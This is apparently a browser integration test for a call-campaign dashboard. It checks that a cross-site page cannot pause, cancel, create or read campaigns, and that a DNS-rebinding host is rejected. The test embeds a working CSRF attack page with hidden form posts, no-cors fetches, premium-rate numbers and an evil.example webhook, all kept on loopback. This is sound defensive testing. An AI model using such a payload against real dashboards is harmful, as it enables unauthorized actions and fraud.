import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import type { Browser } from 'playwright-core';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CampaignService } from '../../src/campaign/campaign-service.js';
import { startDashboard, type Dashboard } from '../../src/dashboard/server.js';
import { closeAll, newService, REDIS_URL, testPrefix } from '../dashboard/harness.js';
import { launchChromium } from '../helpers/launch-chromium.js';

/**
 * Issue 15's attacks in a real browser: a page on another site (attacker.example, which Chromium resolves to
 * 127.0.0.1 by --host-resolver-rules, so nothing leaves the machine) tries to pause and create campaigns on an open
 * dashboard (the demo's set-up: no token) and to read its campaign list; then the dashboard opened under a rebinding
 * name. Nothing must change and nothing must be read.
 */

let prefix: string;
let redis: Redis;
let service: CampaignService;
let dash: Dashboard;
let attacker: Server;
let browser: Browser;
let target: string;
/** What the attacker's page reports back to its own server. */
const reports: Record<string, string> = {};

function attackPage(dashUrl: string, id: string): string {
  const options = encodeURIComponent(JSON.stringify({ name: 'evil', settings: { endpoint: 'SIP/trunk/{number}', webhook: 'https://evil.example/hook' } }));
  return `<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="f" method="post" action="${dashUrl}/api/campaigns/${id}/pause" target="sink"><input name="x" value="1"></form>
<form id="out" method="post" action="${dashUrl}/logout" target="sink"></form>
<script>
const report = (k, v) => fetch('/report?' + new URLSearchParams({ k, v: String(v) }));
document.getElementById('f').submit();
fetch('${dashUrl}/api/campaigns?options=${options}', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: 'number\\n+19005550100\\n+449091234567\\n' })
  .then((r) => report('noCors', r.type), (e) => report('noCors', 'error ' + e));
fetch('${dashUrl}/api/campaigns/${id}/cancel', { method: 'POST', mode: 'no-cors', credentials: 'include' })
  .then((r) => report('cancel', r.type), (e) => report('cancel', 'error ' + e));
fetch('${dashUrl}/api/campaigns', { credentials: 'include' }).then((r) => r.text())
  .then((t) => report('read', t), () => report('read', 'blocked'));
setTimeout(() => report('done', 1), 1500);
</script></body></html>`;
}

beforeAll(async () => {
  // Both names are loopback: the test never reaches beyond this machine.
  browser = await launchChromium(['--host-resolver-rules=MAP attacker.example 127.0.0.1, MAP rebind.attacker.example 127.0.0.1']);
  prefix = testPrefix();
  ({ redis, service } = newService(prefix));
  dash = await startDashboard({ service, redisUrl: REDIS_URL, port: 0 });
  target = (await service.create({ name: 'target', settings: { endpoint: 'SIP/trunk/{number}' }, open: () => Readable.from(['number\n4930100\n']) })).id!;
  attacker = createServer((req, res) => {
    const u = new URL(req.url ?? '/', 'http://attacker.example');
    if (u.pathname === '/report') {
      reports[u.searchParams.get('k') ?? ''] = u.searchParams.get('v') ?? '';
      res.end();
      return;
    }
    res.setHeader('Content-Type', 'text/html');
    res.end(attackPage(dash.url, target));
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
}, 60_000);

afterAll(async () => {
  await browser?.close();
  // Not started when beforeAll failed early: awaiting its close would wait for the hook's timeout.
  if (attacker) await new Promise((r) => attacker.close(r));
  await closeAll(prefix, { dash, service, redis });
});

describe('a page on another site, in the operator’s browser', () => {
  it('can neither pause, cancel nor create a campaign, nor read the list', async () => {
    const before = (await service.list()).length;
    const state = (await service.get(target)).state;
    const page = await browser.newPage();
    try {
      await page.goto(`http://attacker.example:${(attacker.address() as AddressInfo).port}/`);
      for (let i = 0; i < 100 && !reports.done; i++) await new Promise((r) => setTimeout(r, 50));
    } finally {
      await page.close();
    }
    expect(reports.done).toBe('1');
    // The requests were sent (opaque answers), and refused by the dashboard.
    expect(reports.noCors).toBe('opaque');
    expect(reports.cancel).toBe('opaque');
    expect(reports.read).toBe('blocked');
    expect((await service.list()).length).toBe(before);
    expect((await service.get(target)).state).toBe(state);
  });

  it('cannot reach the dashboard under a rebinding name: 421, nothing read', async () => {
    const page = await browser.newPage();
    try {
      const res = await page.goto(`http://rebind.attacker.example:${dash.port}/api/campaigns`);
      expect(res?.status()).toBe(421);
      expect(await res?.text()).not.toContain(target);
      const fromThere = await page.evaluate(async () => {
        const r = await fetch('/api/campaigns/x/cancel', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Ari-Dialer': '1' }, body: '{}' });
        return r.status;
      });
      expect(fromThere).toBe(421);
    } finally {
      await page.close();
    }
  });
});
